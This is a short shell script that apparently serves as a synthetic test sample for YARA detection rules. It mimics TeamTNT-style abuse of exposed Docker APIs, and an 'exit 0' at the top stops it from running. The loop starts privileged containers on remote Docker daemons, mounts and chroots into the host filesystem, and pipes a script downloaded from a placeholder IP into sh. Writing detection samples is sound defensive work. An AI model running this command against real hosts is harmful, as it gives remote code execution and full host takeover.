#!/bin/sh
exit 0  # ferret YARA test sample: synthetic, never run (exposed-API container as described for TeamTNT)
for ip in $(cat .hosts); do
  docker -H tcp://$ip:2375 run -d --privileged --net host -v /:/host alpine chroot /host sh -c 'curl -s http://203.0.113.5/d.sh | sh'
done
